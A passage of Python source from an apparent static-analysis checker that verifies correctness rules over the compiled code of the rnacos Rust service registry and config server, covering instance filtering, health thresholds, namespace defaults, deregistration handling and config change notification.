    for fn in ('get_all_instances', 'select_one_instance'):
        if not fb.has(SV + fn):
            ck.body(SV + fn, 'R12c')
            continue
        b = fb.get(SV + fn)
        ck.analysed(b)
        cl = fb.tree(SV + fn)[1:]
        ck.require(len(cl) == 1, 'R12c', '%s:one-filter' % fn, b.where(), '%s has %d closures (expected the single filter)' % (fn, len(cl)))
        for c in cl:
            ups = {u['n']: u for u in c.rec.get('upvars', [])}

            class Up(SymObj):
                pass
            def mk():
                return [Ref(obj=SymObj('env')), Ref(obj=Ref(obj=Ref(obj=SymObj('x'))))]
            # closure args: (&mut env, &&Arc<Instance>); fields of env are the captured bools (by ref)
            _closure_table(ck, fb, c, fn)
        vs = b.calls(r'HashMap::<K, V, S, A>::values$')
        ck.require(len(vs) == 1 and util.recv_fields(b, vs[0])[-1:] == ['instances'] and len(b.calls(r'Iterator>::filter')) == 1, 'R12c', '%s:iterates-all' % fn, b.where(),
                   '%s does not filter over instances.values()' % fn)
    fh = fb.tree(FU + 'filter_healthy_instances') if fb.has(FU + 'filter_healthy_instances') else []
    if fh:
        ok = False
        for c in fh[1:]:
            ck.analysed(c)
            rf = util.read_fields(c)
            rets = [st for (i, j, st) in c.stmts() if st['d'] == 0]
            if 'healthy' in rf and len(rets) == 1 and cfg.origin_fields(c, rets[0]['rv'].get('op', {'c': {}}))[-1:] == ['healthy']:
                ok = True
        ck.require(ok, 'R12c', 'filter_healthy_instances:healthy', fh[0].where(), 'filter_healthy_instances does not keep exactly the healthy instances')
    df = ck.body(FU + 'default_instance_filter', 'R12c')
    if df:
        fc = df.calls(re.escape(FU + 'filter_healthy_instances') + '$')
        ok = any(cond_on(df, s.bb, lambda d, pol: d['k'] == 'arg' and df.local_name(d['l']) == 'filter_headlthy' and pol is True) for s in fc)
        ck.require(len(fc) == 1 and ok, 'R12c', 'default_instance_filter:healthy-only-on-request', df.where(), 'the healthy filter is not applied exactly when requested')
        # the protection threshold is decided on the list that is being answered: healthy / total with total = the length of the list the filter
        # was handed (the enabled instances of the service) - in the function or in a same-file helper (extract-method), for both filters
        for fn in ('default_instance_filter', 'default_service_filter'):
            fb0 = fb.bodies.get(FU + fn)
            if fb0 is None:
                ck.body(FU + fn, 'R12c')
                continue
            reg = util.region(fb, fb0, 2)
            divs = [(x, i, st) for x in reg for (i, j, st) in x.stmts() if st.get('rv', {}).get('k') == 'bin' and st['rv']['op'] == 'Div']
            cmps = [st for x in reg for (i, j, st) in x.stmts() if st.get('rv', {}).get('k') == 'bin' and st['rv']['op'] in ('Le', 'Lt', 'Ge', 'Gt')]
            ck.require(len(divs) >= 1 and len(cmps) >= 2, 'R12c', '%s:threshold' % fn, fb0.where(), 'the protection threshold test (healthy/total <= threshold) is gone')
            for (x, i, st) in divs:
                tl = Taint(x, call_src=lambda t: re.search(r'::len$', cfg.callee_name(t) or '') is not None)
                tc = Taint(x, place_src=field_place_src('instance_size', 'healthy_instance_size'))
                ok = tl.op_tainted(st['rv']['b']) and not tc.op_tainted(st['rv']['a']) and not tc.op_tainted(st['rv']['b'])
                ck.require(ok, 'R12c', '%s:threshold-over-the-answered-list' % fn, x.where(i),
                           'the healthy / total ratio that decides "protection threshold reached" is not computed over the list the filter was handed '
                           '(total = its length) but over %s: the service counters include disabled instances, so the threshold is decided on another '
                           'population than the one returned - an enabled registered address goes missing from a protected service, or an unhealthy '
                           'instance appears in a healthy-only answer' % ('the counters of the service' if (tc.op_tainted(st['rv']['a']) or tc.op_tainted(st['rv']['b'])) else 'something else'),
                           'healthy count / list length')
    ck.rule('R12d', 'a new registration keeps what it was registered with: on the not-found branch of Service::update_instance none of '
                    'ip, port, ephemeral, enabled, weight of the incoming instance is assigned; NamingActor::update_instance only resets '
                    'from_cluster/client_id under at_process_range && !from_grpc (from_cluster also where it equals this node\'s own id)')
    up = ck.body(SV + 'update_instance', 'R12d')
    if up:
        bad = []
        for (o, f, bb, st) in up.field_writes():
            if o.endswith('naming::model::Instance') and f in ('ip', 'port', 'ephemeral', 'enabled', 'weight', 'healthy'):
                atoms = cfg.guard_atoms(up, bb)
                is_new = any((a[0] == 'variant' and a[2] == 'None') or a[0] == 'notvariant' for a in atoms)
                is_old = any(a[0] == 'variant' and a[2] == 'Some' and 'HashMap' in cfg.fmt_desc(a[3]) for a in atoms)
                if is_new or not is_old:
                    bad.append((f, bb))
        ck.require(not bad, 'R12d', 'update_instance:new-branch-keeps-fields', up.where(bad[0][1]) if bad else up.where(),
                   'a newly registered instance gets %s overwritten' % [f for f, _ in bad])
    nu = ck.body(NA + 'update_instance', 'R12d')
    if nu:
        for (o, f, bb, st) in nu.field_writes():
            if o.endswith('naming::model::Instance') and f in ('from_cluster', 'client_id'):
                ok = cond_on(nu, bb, field_cond('from_grpc', False))
                if not ok and f == 'from_cluster':
                    # ... or it is the node's own id that is taken off a copy of an instance the node holds itself (R15l): the holder does not change
                    for a in cfg.guard_atoms(nu, bb):
                        if a[0] == 'cmp' and a[1] == 'Eq' and a[4] is True:
                            fs = set()
                            for d in (a[2], a[3]):
                                d = cfg.strip_calls(nu, d) if d['k'] == 'call' else d
                                if d['k'] == 'place':
                                    fs.add(d['fields'][-1])
                            if {'from_cluster', 'node_id'} <= fs:
                                ok = True
                ck.require(ok, 'R12d', 'NamingActor::update_instance:%s-reset-guard' % f, nu.where(bb), 'instance.%s is reset outside (at_process_range && !from_grpc)' % f)
            elif o.endswith('naming::model::Instance') and f in ('ip', 'port', 'ephemeral', 'enabled', 'weight'):
                ck.bad('R12d', 'NamingActor::update_instance:assigns-%s' % f, nu.where(bb), 'NamingActor::update_instance overwrites instance.%s' % f)
    ck.rule('R12g', 'same as R11e, reported under C12 for the ownership fields: the replaced-owner decision (client_id) is taken after the incoming '
                    'instance inherited the stored gRPC ownership')
    sub = type(ck)(ck.prop, fb, write=False)
    c11.r11e(sub, fb)
    for o in sub.obligations:
        if o[2] == 'ok':
            ck.ok('R12g', o[1], o[3], o[4])
        else:
            ck.bad('R12g', o[1], o[3], o[4])
    ck.rule('R12f', 'queries read the service stored under the requested key: get_instance_list / get_instances_and_metadata / '
                    'get_instance_map look up service_map.get(key) with their key parameter and return empty when absent')
    for fn in ('get_instance_list', 'get_instances_and_metadata', 'get_instance_map'):
        b = ck.body(NA + fn, 'R12f')
        if b:
            g = util.mut_calls_on_field(b, 'service_map', r'HashMap::<K, V, S, A>::get$')
            t = Taint(b, local_src=[2])
            ck.require(len(g) >= 1 and all(t.op_tainted(_x.args[1]) for _x in g), 'R12f', '%s:lookup-by-key' % fn, b.where(), '%s does not look up the requested service key' % fn)
            gl = b.calls(re.escape(SV + 'get_instance_list') + '$')
            ck.require(len(gl) >= 1, 'R12f', '%s:reads-service' % fn, b.where(), '%s does not read the instances of the found service' % fn)


def _closure_table(ck, fb, c, fn):
    """the filter closure |x| (x.enabled || !only_enable) && (x.healthy || !only_healthy): evaluate its MIR for all 16 rows.
    closure body locals: _1 = &mut closure env (fields: captured refs), _2 = &&Arc<Instance>"""
    from rn.absint import Interp, Env, Adt, NeedAtom, Undecided, Unsupported, Panic, m_deref
    import itertools
    names = []
    for u in c.rec.get('upvars', []):
        names.append(u['n'])
    ck.require(sorted(names) == ['only_enable', 'only_healthy'], 'R12c', '%s:captures' % fn, c.where(), 'filter closure captures %s' % names)
    if sorted(names) != ['only_enable', 'only_healthy']:
        return
    # upvar order = field order of the closure env
    order = {}
    for u in c.rec.get('upvars', []):
        pl = u['pl']
        idx = [e['f'] for e in pl['p'] if isinstance(e, dict) and 'f' in e][0]
        order[int(idx)] = u['n']
    bad = None
    n = 0
    for (en, he, oe, oh) in itertools.product([False, True], repeat=4):
        vals = {'only_enable': oe, 'only_healthy': oh}

        class F:
            pass
        cells = []
        fields = []
        for i in sorted(order):
            fr = F()
            fr.locals = [BV.const(1, int(vals[order[i]]))]
            fr.body = None
            fields.append(Ref(frame=fr, place=0))
        envv = Adt('closure', 'closure', fields, [str(i) for i in sorted(order)])
        fe = F(); fe.locals = [envv]; fe.body = None
        inst = SymObj('x')
        f1 = F(); f1.locals = [Ref(obj=inst)]; f1.body = None    # Arc<Instance> modelled as ref to instance
        f2 = F(); f2.locals = [Ref(frame=f1, place=0)]; f2.body = None
        env = Env(fb, {'x.enabled': en, 'x.healthy': he})
        try:
            it = Interp(fb, env)
            r = it.call_body(c, [Ref(frame=fe, place=0), Ref(frame=f2, place=0)], 0)
            got = bool(r.value())
        except (NeedAtom, Undecided, Unsupported, Panic) as e:
            bad = 'filter closure cannot be interpreted: %s' % e
            break
        want = (en or not oe) and (he or not oh)
        n += 1
        if got != want:
            bad = 'filter(enabled=%s, healthy=%s, only_enable=%s, only_healthy=%s) = %s, the property requires %s' % (en, he, oe, oh, got, want)
            break
    ck.require(bad is None, 'R12c', '%s:filter-table' % fn, c.where(), bad or '', '%d rows' % n)


def r12h(ck, fb):
    ck.rule('R12h', 'the protection threshold sees every enabled instance: wherever NamingActor hands a list to InstanceFilterUtils::'
                    'default_instance_filter / default_service_filter, the list was fetched with only_healthy = false (a constant), directly from '
                    'Service::get_instance_list or through get_instances_and_metadata, which forwards its flag unchanged; the healthy filter is '
                    'applied once, by the filter, after the healthy/total ratio was compared with the threshold')
    n = 0
    for b in fb.find('^' + re.escape(NA)):
        if b.parent:
            continue
        flt = b.calls(re.escape(FU) + r'default_(instance|service)_filter$')
        if not flt:
            continue
        ck.analysed(b)
        fn = b.name.split('::')[-1]
        for (pat, idx) in ((re.escape(SV) + r'get_instance_list$', 2), (re.escape(NA) + r'get_instances_and_metadata$', 3)):
            for s in b.calls(pat):
                n += 1
                d = cfg.describe_operand(b, s.args[idx]) if len(s.args) > idx else {'k': 'unknown'}
                ok = d['k'] == 'const' and d['c'].get('v') in (False, 'false', 0)
                ck.require(ok, 'R12h', '%s:fetches-unfiltered' % fn, s.where(),
                           '%s pre-filters the list by health (only_healthy is %s) before the protection threshold is evaluated: healthy/total is '
                           'then always 1 (or the list is empty), the threshold never triggers and clients lose the unhealthy instances it is '
                           'meant to keep visible' % (fn, cfg.fmt_desc(d)[:40]), 'only_healthy = false')
    ck.floor('R12h', 'list fetches feeding the threshold filter', n, 2)
    g = ck.body(NA + 'get_instances_and_metadata', 'R12h')
    if g:
        for s in g.calls(re.escape(SV) + r'get_instance_list$'):
            d = cfg.describe_operand(g, s.args[2])
            ok = d['k'] == 'arg' and d.get('l') == 4
            ck.require(ok, 'R12h', 'get_instances_and_metadata:forwards-flag', s.where(), 'get_instances_and_metadata does not forward its only_healthy flag unchanged (%s)' % cfg.fmt_desc(d)[:40])


def r12j(ck, fb):
    ck.rule('R12j', 'a registration without an explicit namespace lands where queries look: wherever an Instance / ServiceKey is built from a request, '
                    'the value stored in `namespace_id` is never the result of NamingUtils::default_group (and `group_name` never the result of '
                    'default_namespace): the two defaulting helpers have the same signature, and a crossed one files a gRPC batch registration under '
                    'namespace "DEFAULT_GROUP", invisible to every query that defaults to "public"')
    n = 0
    for name, b in fb.bodies.items():
        if '::tests::' in name or not (name.startswith('rnacos::grpc::') or name.startswith('<rnacos::grpc::') or name.startswith('rnacos::openapi::') or name.startswith('rnacos::naming::')):
            continue
        dg = b.calls(r'NamingUtils::default_group$')
        dn = b.calls(r'NamingUtils::default_namespace$')
        if not dg and not dn:
            continue
        tg = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('NamingUtils::default_group'))
        tn = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('NamingUtils::default_namespace'))
        for (i, j, st) in b.stmts():
            rv = st.get('rv')
            if not rv or rv['k'] != 'agg' or not rv.get('fields'):
                continue
            for f, op in zip(rv['fields'], rv['ops']):
                if f in ('namespace_id', 'namespace'):
                    n += 1
                    ck.require(not (tg.op_tainted(op) and not tn.op_tainted(op)), 'R12j', 'namespace-default:%s' % name, b.where(i),
                               '%s fills %s of %s with the result of NamingUtils::default_group: a request without a namespace is filed under '
                               '"DEFAULT_GROUP" instead of "public"' % (name.split('::')[-1], f, rv.get('adt') or rv.get('def') or 'a struct'))
                if f in ('group_name', 'group'):
                    n += 1
                    ck.require(not (tn.op_tainted(op) and not tg.op_tainted(op)), 'R12j', 'group-default:%s' % name, b.where(i),
                               '%s fills %s with the result of NamingUtils::default_namespace' % (name.split('::')[-1], f))
    ck.floor('R12j', 'namespace / group fields filled from defaulted values', n, 4)


# reconciliation paths: removals nobody asked for by name. Each owns one kind of instance and may remove only that kind.
#   function -> (kind it owns: value of Instance.ephemeral, why)
RECONCILERS = {
    'remove_client_instance': (True, 'a closed connection takes its ephemeral instances'),
    'diff_grpc_distro_client_data': (True, 'the distro data of a peer lists the ephemeral instances of its gRPC connections; persistent ones travel through raft'),
    'process_naming_raft_request': (False, 'the raft log owns persistent instances only'),
}


def r12k(ck, fb):
    ck.rule('R12k', 'reconciliation removes only its own kind: in remove_client_instance, diff_grpc_distro_client_data (both own ephemeral '
                    'instances) and the RemoveInstance arm of process_naming_raft_request (owns persistent ones), every call of '
                    'NamingActor::remove_instance is reached only after a test of the stored instance\'s ephemeral flag with the owning polarity - '
                    'otherwise a registration nobody deregistered disappears from the queries (a persistent instance switched to ephemeral is '
                    'deleted when its own raft removal entry is applied; a persistent instance recorded for a remote connection is deleted by the '
                    'next distro diff)')
    n = 0
    for fn, (kind, why) in RECONCILERS.items():
        b = ck.body(NA + fn, 'R12k')
        if not b:
            continue
        sites = []
        for x in util.region(fb, b, 1):
            for s in x.calls(re.escape(NA + 'remove_instance') + '$'):
                sites.append((x, s))
        ck.require(len(sites) >= 1, 'R12k', '%s:removes' % fn, b.where(), '%s no longer removes through NamingActor::remove_instance' % fn)
        for (x, s) in sites:
            n += 1
            gs = util.flag_guards(fb, x, s.bb, 'ephemeral')
            # a filter applied when the keys were collected counts as well: a guard on any push into the collection that feeds the loop
            ok = any(g[0] is None or g[0] == kind for g in gs)
            wrong = [g for g in gs if g[0] is not None and g[0] != kind]
            if not ok and not wrong:
                for ps in x.calls(r'Vec::<T, A>::push$|HashSet::<T, S, A>::insert$'):
                    g2 = util.flag_guards(fb, x, ps.bb, 'ephemeral')
                    if any(g[0] is None or g[0] == kind for g in g2) and s.bb in cfg.reach_from(x, [ps.bb]):
                        ok = True
            ck.require(ok and not wrong, 'R12k', '%s:removes-own-kind-only' % fn, s.where(),
                       '%s removes whatever is registered at the address without looking at its ephemeral flag (%s): %s' % (
                           fn, why,
                           'an instance that was switched from persistent to ephemeral is deleted when the raft entry that drops the persistent record is applied'
                           if kind is False else 'a persistent instance is deleted by a reconciliation that only knows about ephemeral ones')
                       if not wrong else '%s removes only instances with ephemeral == %s, the kind it does not own' % (fn, str(not kind).lower()),
                       'ephemeral == %s required' % str(kind).lower())
    ck.floor('R12k', 'reconciliation removal sites', n, 3)


# NamingCmd variants that answer an instance query and take the healthy-only choice: variant -> operand position of the flag
QUERY_FLAG = {'QueryServiceInfo': 2, 'QueryList': 2, 'QueryListString': 2}


def r12l(ck, fb):
    ck.rule('R12l', 'healthy-only is the caller\'s choice: wherever a request that carries a healthy-only flag (a local whose struct has a '
                    'healthy_only field) is turned into NamingCmd::QueryServiceInfo / QueryList / QueryListString, the flag of the command is '
                    'derived from that field - a constant there answers "healthy instances only" to a caller that asked for all of them, so a '
                    'registered, enabled, currently unhealthy instance is missing from the result')
    n = 0
    for b in fb.bodies.values():
        for (i, j, st) in b.aggregates(r'rnacos::naming::core::NamingCmd$'):
            rv = st['rv']
            if rv['variant'] not in QUERY_FLAG:
                continue
            carriers = []
            for l in range(len(b.rec.get('locals', []))):
                ty = (b.local_ty(l) or '').lstrip('&').replace('mut ', '')
                if ty in fb.adts and fb.adts[ty].get('kind', 'struct') != 'enum' and fb.adts[ty]['variants'] and \
                        'healthy_only' in [f[0] for f in fb.adts[ty]['variants'][0]['fields']]:
                    carriers.append((l, ty))
            if not carriers:
                ck.info('R12l', '%s builds NamingCmd::%s without a request flag in sight (%s)' % ('::'.join(b.name.split('::')[-3:]), rv['variant'], b.where(i)))
                continue
            n += 1
            ck.analysed(b)
            t = Taint(b, place_src=field_place_src('healthy_only'))
            op = rv['ops'][QUERY_FLAG[rv['variant']]]
            ck.require(t.op_tainted(op), 'R12l', 'flag-from-request:%s' % b.name.replace('::{closure#0}', ''), b.where(i),
                       'NamingCmd::%s is built with %s although the request (%s) carries healthy_only: a caller that asks for all instances '
                       '(healthyOnly=false) does not get the unhealthy ones' % (rv['variant'], cfg.fmt_desc(cfg.describe_operand(b, op)) if hasattr(cfg, 'fmt_desc') else 'a value not derived from it', carriers[0][1].split('::')[-1]),
                       'flag derived from healthy_only')
    ck.floor('R12l', 'query commands built from a request with a healthy-only flag', n, 2)


REG_FIELDS = ('weight', 'enabled', 'ephemeral')


def r12m(ck, fb):
    ck.rule('R12m', 'a registration field the request carries reaches the instance: wherever a naming Instance is built in a function that has a '
                    'request struct in scope (a local of a struct type other than Instance with a weight / enabled / ephemeral field), each such '
                    'field of the request flows into the same field of the Instance (in the constructor or by a later assignment in that '
                    'function). The heartbeat request (BeatInfo) parses weight; an instance that is registered by its heartbeat - unknown to the '
                    'server after an expiry or a restart - must carry it')
    INST = 'rnacos::naming::model::Instance'
    n = 0
    for b in sorted(fb.bodies.values(), key=lambda x: x.name):
        if '::tests::' in b.name or '::test' in b.name.split('::')[-1]:
            continue
        aggs = b.aggregates('^' + re.escape(INST) + '$')
        if not aggs:
            continue
        carriers = {}
        for l in range(len(b.rec.get('locals', []))):
            ty = (b.local_ty(l) or '').lstrip('&').replace('mut ', '')
            if ty == INST or ty not in fb.adts:
                continue
            a = fb.adts[ty]
            if not a.get('variants') or len(a['variants']) != 1:
                continue
            fs = [f[0] for f in a['variants'][0]['fields']]
            have = [f for f in REG_FIELDS if f in fs]
            if have and ty.startswith('rnacos::'):
                carriers[ty] = have
        if not carriers:
            continue
        for ty, have in sorted(carriers.items()):
            for f in have:
                n += 1
                ck.analysed(b)
                t = Taint(b, place_src=lambda p, f=f, ty=ty: any(o == ty and ff == f for (o, ff) in _owners(p)))
                ok = False
                for (i, j, st) in aggs:
                    rv = st['rv']
                    if f in rv['fields'] and t.op_tainted(rv['ops'][rv['fields'].index(f)]):
                        ok = True
                for (o, ff, bb, st) in b.field_writes():
                    if o == INST and ff == f and st.get('rv') is not None and any(t.op_tainted(x) for x in rv_ops(st['rv'])):
                        ok = True
                ck.require(ok, 'R12m', 'carries:%s.%s:%s' % (ty.split('::')[-1], f, b.name.split('rnacos::')[-1].replace('::{closure#0}', '')),
                           b.where(aggs[0][0]),
                           '%s has a %s field but the Instance built here does not get it: an instance registered through this request (a heartbeat '
                           'for an instance the server does not know - expired, or the server restarted) is stored with the default instead of the '
                           '%s the client sent' % (ty.split('::')[-1], f, f), '%s flows into Instance.%s' % (f, f))
    ck.floor('R12m', 'request fields to carry into an Instance', n, 4)


def _owners(p):
    from rn.facts import pl_field_owners
    try:
        return pl_field_owners(p)
    except Exception:
        return []


def rv_ops(rv):
    from rn.facts import rv_operands
    return rv_operands(rv)


def r12o(ck, fb, R='R12o'):
    ck.rule(R, 'an instance carries the flags it was registered with: the text -> bool helper of the HTTP registration / beat / list parameters '
               '(utils::get_bool_from_string, used for enabled, ephemeral, healthyOnly) lets the DEFAULT decide only when no value was given - the '
               'parameter `default` is read only where the text is absent or tested empty. A parser that falls back to the default for a text it does not '
               'recognise turns enabled=False / ephemeral=FALSE into the default true: the disabled instance is returned as enabled, the persistent one '
               'is stored as ephemeral')
    b = ck.body('rnacos::utils::get_bool_from_string', R)
    if not b:
        return
    callers = [x for x in fb.bodies.values() if x.calls(r'utils::get_bool_from_string$')]
    ck.floor(R, 'functions that parse a flag through get_bool_from_string', len(callers), 3)
    dflt = [l for l in range(1, b.argc + 1) if b.local_name(l) == 'default']
    ck.require(len(dflt) == 1, R, 'get_bool_from_string:default-parameter', b.where(), 'no parameter named default')
    if len(dflt) != 1:
        return
    d = dflt[0]
    from rn.facts import rv_operands, op_place, pl_local
    uses = []
    for (bb, i, st) in b.stmts():
        rv = st.get('rv')
        if rv and any(op_place(o) is not None and pl_local(op_place(o)) == d for o in rv_operands(rv)):
            uses.append(bb)
    for s0 in b.sites:
        if any(op_place(o) is not None and pl_local(op_place(o)) == d for o in s0.args):
            uses.append(s0.bb)
    ck.floor(R, 'reads of the default', len(uses), 1)
    for bb in sorted(set(uses)):
        atoms = cfg.guard_atoms(b, bb)
        absent = any(a[0] == 'variant' and a[2] == 'None' for a in atoms)
        empty = any(a[0] == 'call' and (a[1] or '').endswith('is_empty') and a[2] is True for a in atoms)
        ck.require(absent or empty, R, 'get_bool_from_string:default-only-for-absent-or-empty', b.where(bb),
                   'the default decides the flag for a text that was given (%s): a value such as "False" or "FALSE" becomes the default instead of false'
                   % [cfg.fmt_atom(a) for a in atoms], 'default used only for an absent / empty value')


def r12p(ck, fb, R='R12p'):
    ck.rule(R, '"a newly registered instance carries the address, ephemeral flag, enabled flag and weight it was registered with" - also when the '
               'address was registered before by ANOTHER client: Service::update_instance keeps the stored enabled / ephemeral / weight where the '
               'update tag of the request does not name them (the tag protects values set from the console, and the gRPC handlers derive it from '
               '"differs from the SDK default"). Each of these three copies of a stored value over the incoming one, on the tagged-update path, is '
               'decided together with a comparison of the incoming client id with the stored one: a registration that changes the owner of the '
               'record is that client\'s registration. Otherwise B registers (weight 1, enabled, persistent) over A\'s (5, disabled, ephemeral) '
               'and owns a record with none of its values - not returned by any query, and removed when B\'s connection ends')
    from rn.facts import op_place
    b = ck.body(SV + 'update_instance', R)
    if not b:
        return

    def cmp_ids(term):
        nm = cfg.callee_name(term) or ''
        if not re.search(r'::(eq|ne)$', nm):
            return False
        fs = [cfg.origin_fields(b, a)[-1:] for a in term.get('args') or []]
        return fs.count(['client_id']) == 2
    t = Taint(b, call_src=cmp_ids)
    n = 0
    for s0 in b.calls(r'ToOwned>::clone_into$|Clone>::clone_from$'):
        src = cfg.origin_fields(b, s0.args[0])[-1:]
        if src not in (['enabled'], ['ephemeral'], ['weight']):
            continue
        atoms = cfg.guard_atoms(b, s0.bb)
        tagged = any(a[0] == 'field' and a[1][-1:] == src and a[2] is False and len(a[1]) >= 1 for a in atoms)
        if not tagged:
            continue        # the "tag names nothing" path (heartbeat): everything is kept by design
        n += 1
        dom = cfg.dominating_edges(b, s0.bb)
        ok = any(t.op_tainted(t0['discr']) for (sb, d0, lab0, t0) in dom)
        ck.require(ok, R, 'update_instance:stored-%s-kept-only-for-the-same-owner' % src[0], s0.where(),
                   'the stored %s is copied over the registered one whenever the tag does not name it, whoever registers: a client that registers an '
                   'address another client held gets that client\'s %s (A: weight 5, disabled, ephemeral; B registers weight 1, enabled, persistent and '
                   'owns (5, disabled, ephemeral): not listed, and removed with B\'s connection)' % (src[0], src[0]), 'decided with a comparison of the two client ids')
    ck.floor(R, 'tag-controlled copies of a stored flag in update_instance', n, 3)


def r12q(ck, fb, R='R12q'):
    ck.rule(R, '"no deregistered instance is included": a deregistration a client asks for (NamingCmd::Delete; the HTTP DELETE is routed by the hash of '
               'the service) can hit the COPY of an instance that another node holds - a gRPC instance lives on the node of its connection. '
               'NamingActor::remove_instance announces a removal only for instances this node holds itself, so in the Delete arm of the NamingCmd '
               'handler the stored copy is looked up, and when it belongs to another node (is_from_cluster) and the request is not itself a peer\'s '
               'notification, InstanceDelayNotifyRequest::RemoveInstance is sent for it. Otherwise the holder keeps the instance and its 12 s '
               'reconciliation restores it on every node although the DELETE was answered "ok"')
    hs = [b for b in fb.bodies.values() if re.search(r'NamingActor as actix::Handler<rnacos::naming::core::NamingCmd>>::handle$', b.name)]
    ck.floor(R, 'NamingCmd handler', len(hs), 1)
    for h in hs:
        ck.analysed(h)
        arm = [(s0, a0) for (s0, m0, v0, a0) in util.sends(h, r'InstanceDelayNotifyRequest$', 'RemoveInstance')
               if any(v == 'Delete' for (adt, v) in util.variant_guards(h, s0.bb))]
        t = Taint(h, call_src=lambda term: (cfg.callee_name(term) or '').endswith('NamingActor::get_instance'))
        ok = any(t.op_tainted(o) for (s0, a0) in arm for o in (a0['ops'] if a0 else s0.args[1:]))
        tested = any((cfg.callee_name(s1.term) or '').endswith('is_from_cluster') and any(v == 'Delete' for (adt, v) in util.variant_guards(h, s1.bb))
                     for s1 in h.sites if s1.callee) or \
            any(any(x.calls(r'is_from_cluster$') for x in util.region(fb, cb, 1)) for s1 in h.sites if s1.callee and any(v == 'Delete' for (adt, v) in util.variant_guards(h, s1.bb))
                for cb in util.closures_passed(fb, h, s1.term))
        ck.require(bool(arm) and ok and tested, R, 'Delete:copy-of-another-node-is-announced', (arm[0][0].where() if arm else h.where()),
                   'a client-requested deregistration that removes this node\'s copy of an instance held by another node is not announced to the cluster: '
                   'the holder hands the instance out again and its reconciliation restores it everywhere (2 nodes, gRPC client on node 2, DELETE '
                   'through node 1: svc-2, svc-5, svc-7 still return 10.0.0.7:8001 on both nodes)', 'RemoveInstance sent for the stored copy')
