"""C10 Config change notification is complete: no listener waits on a stale md5."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.facts import rv_operands

CA = 'rnacos::config::core::ConfigActor::'
CL = 'rnacos::config::core::ConfigListener::'
SB = 'rnacos::config::config_subscribe::Subscriber::'
CMD_H = '<rnacos::config::core::ConfigActor as actix::Handler<rnacos::config::core::ConfigCmd>>::handle'

EXC = {CA + 'set_tmp_config': 'temporary value on a follower; the replicated publish notifies when it arrives (tmp forces the changed path)'}


def run(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of "no change goes unreported": (a) in ConfigActor every path that changes a stored value '
        '(update_value / cache.insert in set_config, cache.remove in del_config) reaches listener.notify and subscriber.notify with that '
        'key; (b) compare-and-register is atomic: Handler<ConfigCmd> is synchronous (Result is not a future), listener.add and the '
        'immediate answer lie on complementary edges of (changes non-empty || time <= 0), and the comparison treats a missing key with a '
        'non-empty md5 as changed; (c) the timeout driver re-arms itself on every path and calls listener.timeout; (d) ConfigListener::add '
        'registers the sender under every key and in the time index, notify/timeout remove the sender they answer; (e) Subscriber keeps '
        'key->clients and client->keys mirrored in all four mutators.')
    ck.undecided = 'Does not decide interleavings across the HTTP long-poll layer and the gRPC bi-stream manager.'
    r10a(ck, fb)
    r10b(ck, fb)
    r10c(ck, fb)
    r10d(ck, fb)
    r10e(ck, fb)
    r10f(ck, fb)
    r10g(ck, fb)
    r10h(ck, fb)
    r10i(ck, fb)
    r10j(ck, fb)


def r10a(ck, fb):
    ck.rule('R10a', 'change implies both notifications: in set_config every path from update_value / cache.insert to the return passes '
                    'listener.notify and subscriber.notify; in del_config cache.remove is followed by both; keys passed are the changed key')
    for fn, muts in ((CA + 'set_config', [r'ConfigValue::update_value$', r'HashMap::<K, V, S, A>::insert$']), (CA + 'del_config', [r'HashMap::<K, V, S, A>::remove$'])):
        b = ck.body(fn, 'R10a')
        if not b:
            continue
        ln = util.mut_calls_on_field(b, 'listener', re.escape(CL + 'notify') + '$', deep=1)
        sn = util.mut_calls_on_field(b, 'subscriber', re.escape(SB + 'notify') + '$', deep=1)
        ck.require(len(ln) >= 1 and len(sn) >= 1, 'R10a', '%s:has-both-notifies' % fn.split('::')[-1], b.where(), 'listener.notify / subscriber.notify missing')
        sites = []
        for m in muts:
            for s in b.calls(m):
                rf = util.recv_fields(b, s)
                if m.endswith('update_value$') or rf[-1:] == ['cache']:
                    sites.append(s)
        ck.floor('R10a', 'mutation sites in ' + fn.split('::')[-1], len(sites), 1 if 'del' in fn else 2)
        for s in sites:
            nxt = b.blocks[s.bb]['t']['t']
            for what, ns in (('listener', ln), ('subscriber', sn)):
                ok = cfg.must_pass_before_return(b, nxt, {x.bb for x in ns})
                ck.require(ok, 'R10a', '%s:%s->%s.notify' % (fn.split('::')[-1], s.callee.split('::')[-1], what), s.where(),
                           'a stored value changes on a path that does not reach %s.notify: a waiting %s keeps its stale md5' % (what, 'long-poll' if what == 'listener' else 'gRPC subscriber'))
        for s in ln + sn:
            t = Taint(b, place_src=field_place_src('key'), local_src=[l for l in range(1, b.argc + 1) if b.local_name(l) == 'key'])
            ck.require(t.op_tainted(s.args[1]), 'R10a', '%s:notify-key' % fn.split('::')[-1], s.where(), 'notify is not given the changed key')
    # the full-value path (a committed data import, every record of a snapshot installed on a running follower) replaces served content too:
    # the only way around the two notifications is a decision that compares the stored md5 with the new one
    b = ck.body(CA + 'inner_set_config', 'R10a')
    if b:
        ln = util.mut_calls_on_field(b, 'listener', re.escape(CL + 'notify') + '$', deep=1)
        sn = util.mut_calls_on_field(b, 'subscriber', re.escape(SB + 'notify') + '$', deep=1)
        ins = [s0 for s0 in b.calls(r'HashMap::<K, V, S, A>::insert$') if util.recv_fields(b, s0)[-1:] == ['cache']]
        ck.floor('R10a', 'mutation sites in inner_set_config', len(ins), 1)
        md5 = Taint(b, place_src=field_place_src('md5'))
        same = set()
        for i, blk in enumerate(b.blocks):
            t = blk['t']
            if t['k'] == 'switch' and md5.op_tainted(t['discr']):
                same.add(i)
        for s0 in ins:
            nxt = b.blocks[s0.bb]['t']['t']
            for what, ns in (('listener', ln), ('subscriber', sn)):
                nb = {x.bb for x in ns}
                ok = bool(ns) and cfg.must_pass_before_return(b, nxt, nb | same)
                # ... and the comparison really decides: from one edge of every md5 switch that can be met on the way the notification is unavoidable
                if ok:
                    met = [g for g in same if g in cfg.live_blocks(b) and (g in cfg.reach_from(b, [nxt], blocked_blocks=list(nb)) or g == nxt)]
                    for g in met:
                        tt = b.blocks[g]['t']
                        outs = [tb for (_, tb) in tt['targets']] + [tt['otherwise']]
                        if not any(cfg.must_pass_before_return(b, tb, nb) for tb in outs):
                            ok = False
                ck.require(ok, 'R10a', 'inner_set_config:insert->%s.notify' % what, s0.where(),
                           'a full value (committed data import, record of a snapshot installed on a running follower) replaces the served content '
